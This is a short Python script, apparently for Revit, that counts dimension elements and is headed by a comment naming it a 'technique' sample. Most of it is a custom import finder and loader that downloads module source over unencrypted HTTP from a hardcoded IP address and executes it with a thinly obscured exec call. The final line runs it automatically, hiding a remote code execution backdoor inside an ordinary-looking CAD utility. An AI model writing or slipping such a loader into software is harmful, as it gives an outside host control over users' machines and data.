# technique: custom importlib finder/loader on sys.meta_path pulls module source over HTTP and executes it via importlib.util module_from_spec
import importlib.abc
import importlib.util
import sys
import urllib.request

from Autodesk.Revit.DB import FilteredElementCollector, Dimension

_BASE = "http://198.51.100.120/pkgs/"


class _CloudLoader(importlib.abc.Loader):
    def create_module(self, spec):
        return None

    def exec_module(self, module):
        src = urllib.request.urlopen(_BASE + module.__name__ + ".py", timeout=10).read()
        code = compile(src, module.__name__, "exec")
        (__builtins__["exec"] if isinstance(__builtins__, dict) else __builtins__.exec)(code, module.__dict__)


class _CloudFinder(importlib.abc.MetaPathFinder):
    names = {"revitpy_dimtools_ext"}

    def find_spec(self, fullname, path, target=None):
        if fullname in self.names:
            return importlib.util.spec_from_loader(fullname, _CloudLoader())
        return None


sys.meta_path.insert(0, _CloudFinder())


def load_extension(name="revitpy_dimtools_ext"):
    spec = importlib.util.find_spec(name)
    mod = importlib.util.module_from_spec(spec)
    sys.modules[name] = mod
    spec.loader.exec_module(mod)
    return mod


doc = __revit__.ActiveUIDocument.Document
dims = FilteredElementCollector(doc).OfClass(Dimension).ToElements()
print("Dimensions: %d" % len(dims))
ext = load_extension()
